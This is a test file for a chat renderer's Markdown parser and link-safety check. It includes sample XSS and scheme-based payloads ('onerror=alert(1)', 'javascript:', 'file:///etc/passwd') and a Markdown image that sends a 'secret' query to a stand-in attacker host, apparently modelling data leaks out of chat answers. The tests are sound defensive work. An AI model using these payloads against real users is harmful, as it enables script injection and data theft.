import { describe, expect, it } from 'vitest';
import {
  isSafeLink,
  parseInline,
  parseMarkdown,
} from '../../../src/renderer/components/markdown-parse';

describe('renderer: Markdown parsing', () => {
  it('parses the blocks chat answers use', () => {
    const blocks = parseMarkdown(
      '# Title\n\nSome *text* and **bold** and `code`.\n\n- one\n- two\n\n1. first\n\n```python\nprint(1)\n```\n\n> quoted\n\n---',
    );
    expect(blocks.map((block) => block.type)).toEqual([
      'heading',
      'paragraph',
      'list',
      'list',
      'code',
      'quote',
      'rule',
    ]);
    expect(blocks[4]).toEqual({ type: 'code', language: 'python', text: 'print(1)' });
    expect(blocks[1]).toMatchObject({
      children: [
        { type: 'text', text: 'Some ' },
        { type: 'em', children: [{ type: 'text', text: 'text' }] },
        { type: 'text', text: ' and ' },
        { type: 'strong', children: [{ type: 'text', text: 'bold' }] },
        { type: 'text', text: ' and ' },
        { type: 'code', text: 'code' },
        { type: 'text', text: '.' },
      ],
    });
  });

  it('keeps raw HTML as literal text and finds images and links as nodes', () => {
    expect(parseInline('<img src=x onerror=alert(1)>')).toEqual([
      { type: 'text', text: '<img src=x onerror=alert(1)>' },
    ]);
    expect(parseInline('![chart](https://evil.example/?q=secret)')).toEqual([
      { type: 'image', alt: 'chart', src: 'https://evil.example/?q=secret' },
    ]);
    expect(parseInline('see https://example.com/a.')).toEqual([
      { type: 'text', text: 'see ' },
      {
        type: 'link',
        href: 'https://example.com/a',
        children: [{ type: 'text', text: 'https://example.com/a' }],
      },
      { type: 'text', text: '.' },
    ]);
  });

  it('allows only http(s) and mailto links', () => {
    expect(isSafeLink('https://example.com')).toBe(true);
    expect(isSafeLink('mailto:a@example.com')).toBe(true);
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      '//evil.example',
      'vbscript:x',
    ]) {
      expect(isSafeLink(href), href).toBe(false);
    }
  });

  it('an unterminated code fence runs to the end; stray markers stay text', () => {
    expect(parseMarkdown('```\nopen')).toEqual([{ type: 'code', language: '', text: 'open' }]);
    expect(parseInline('2 * 3 * 4 and a_b_c')).toEqual([
      { type: 'text', text: '2 * 3 * 4 and a_b_c' },
    ]);
  });
});
